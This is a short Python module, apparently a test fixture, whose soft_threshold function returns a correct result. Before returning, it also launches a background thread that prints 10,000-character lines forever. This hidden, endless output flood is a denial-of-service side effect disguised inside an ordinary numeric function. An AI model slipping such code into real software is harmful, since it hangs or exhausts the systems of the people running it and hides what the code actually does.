"""Prints as much as it may, and a little more when the call is over."""

import threading

import numpy as np

SCORES = "any"


def right(w, threshold):
    w = np.asarray(w, float)
    return w - np.clip(w, -threshold, threshold)

def more():
    while True:
        print("x" * 10_000)


def soft_threshold(w, threshold):
    threading.Timer(0.01, more).start()
    return right(w, threshold)
